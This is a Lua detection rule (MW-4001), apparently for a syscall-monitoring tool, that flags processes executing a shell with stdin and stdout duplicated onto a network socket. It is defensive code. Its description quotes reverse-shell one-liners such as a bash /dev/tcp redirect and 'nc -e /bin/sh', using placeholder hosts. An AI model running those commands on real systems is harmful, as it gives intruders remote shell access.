-- Standard input and output duplicated onto a network socket, then a shell executed.
local SHELLS = mw.set{ "sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "fish", "csh", "tcsh", "pwsh" }
local function new_proc() return { socks = {}, std = {} } end

local function is_inet(addr)
  return type(addr) == "table" and (addr.family == "AF_INET" or addr.family == "AF_INET6")
end

return {
  id = "MW-4001",
  version = "1.0.0",
  name = "Reverse shell: standard streams on a network socket",
  description = [[
A process pointed at least stdin and stdout at a TCP/UDP socket (dup/dup2/dup3 of a socket it
created with socket+connect or got from accept) and then executed a shell: the shape of
`bash -i >& /dev/tcp/HOST/PORT 0>&1`, `nc -e /bin/sh`, and the Python/Perl one-liners. The
socket's remote address comes from connect or accept. Descriptor state follows fork, so a
parent that redirects and a child that execs are tied together. Limits: descriptors duplicated
with fcntl(F_DUPFD) or inherited from before moonwatch started are not tracked. Known false
positives: inetd/xinetd-style services that run a shell with the connection as stdio (rare and
worth reviewing anyway).]],
  severity = "high",
  tags = { "process", "network", "execution", "reverse-shell" },
  mitre = { tactic = "execution", technique = "T1059.004" },
  events = { "socket", "connect", "accept", "accept4", "dup", "dup2", "dup3", "execve", "execveat",
             "process_fork", "process_exit" },
  filter = { args = { domain = { 2, 10 } } },

  on_event = function(event, state)
    local procs = mw.per_process(state, "procs")
    if procs:track(event) then return end   -- fork copies the descriptor state, exit drops it
    local pid, name, a = event.process.pid, event.name, event.args
    if event.ret < 0 and not (name == "connect" and event.ret == -115) then return end   -- EINPROGRESS still connects

    if name == "socket" then
      procs:get(pid, new_proc).socks[event.ret] = { remote = nil }
    elseif name == "connect" then
      local p = procs:get(pid)
      if p and p.socks[a.sockfd] and is_inet(a.addr) then p.socks[a.sockfd].remote = a.addr end
    elseif name == "accept" or name == "accept4" then
      if is_inet(a.addr) then procs:get(pid, new_proc).socks[event.ret] = { remote = a.addr } end
    elseif name == "dup" or name == "dup2" or name == "dup3" then
      local p = procs:get(pid)
      if not p then return end
      local newfd = name == "dup" and event.ret or a.newfd
      local s = p.socks[a.oldfd]
      if newfd >= 0 and newfd <= 2 then p.std[newfd] = (s and s.remote) and s or nil end
      if s then p.socks[newfd] = s end
    elseif name == "execve" or name == "execveat" then
      local p = procs:get(pid)
      if not p or event.ret ~= 0 then return end
      local sin, sout = p.std[0], p.std[1]
      if not (sin and sout) then return end
      local path = a.pathname or event.process.exe or ""
      local base = mw.basename(path) or ""
      if not SHELLS[base] then return end
      local r = sout.remote
      report{
        message = string.format("%s executed %s with stdin/stdout on a socket to %s:%s", mw.who(event), path,
                                tostring(r.addr), tostring(r.port)),
        data = { shell = path, argv = a.argv, remote = r, stderr_on_socket = p.std[2] ~= nil,
                 pid = pid, ppid = event.process.ppid, uid = event.process.uid, comm = event.process.comm },
      }
    end
  end,
}
